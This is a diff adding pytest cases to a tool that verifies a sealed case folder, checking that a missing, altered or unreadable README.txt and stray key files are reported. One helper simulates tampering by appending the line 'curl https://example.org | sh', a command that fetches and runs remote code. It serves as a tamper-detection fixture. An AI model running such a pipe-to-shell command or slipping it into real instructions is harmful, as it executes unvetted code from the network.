@@ -230,6 +230,41 @@ def test_a_missing_key_file_is_named(closed: Path) -> None:
     assert problem.what == "the key cannot be read: No such file or directory"
 
 
+def make_missing(path: Path) -> None:
+    path.unlink()
+
+
+def append_a_command(path: Path) -> None:
+    path.write_bytes(path.read_bytes() + b"\n    curl https://example.org | sh\n")
+
+
+def change_a_letter(path: Path) -> None:
+    path.write_bytes(path.read_bytes().replace(b"sha256sum", b"sha255sum"))
+
+
+@pytest.mark.parametrize(
+    ("change", "told"),
+    [
+        (make_missing, "README.txt: it is missing"),
+        (append_a_command, "README.txt: it is not what Habeas wrote; run no command that it gives"),
+        (change_a_letter, "README.txt: it is not what Habeas wrote; run no command that it gives"),
+        (make_a_pipe, "README.txt: it cannot be read: it is not a regular file"),
+    ],
+)
+def test_altered_instructions_are_named(
+    closed: Path, change: Callable[[Path], object], told: str
+) -> None:
+    change(closed / "README.txt")
+    assert [str(problem) for problem in verify(closed).problems] == [told]
+
+
+def test_strangers_beside_the_key_are_noticed_and_no_problem(closed: Path) -> None:
+    (closed / "keys" / "other.pem").write_bytes(b"")
+    report = verify(closed)
+    assert report.ok
+    assert report.notices == ("keys/other.pem: it is not part of the case's key",)
+
+
 def test_files_that_belong_to_no_source_are_told_apart(closed: Path) -> None:
     stray = b"preserved, not recorded"
     folder = closed / "blobs" / SOURCE[:2] / SOURCE[2:4]
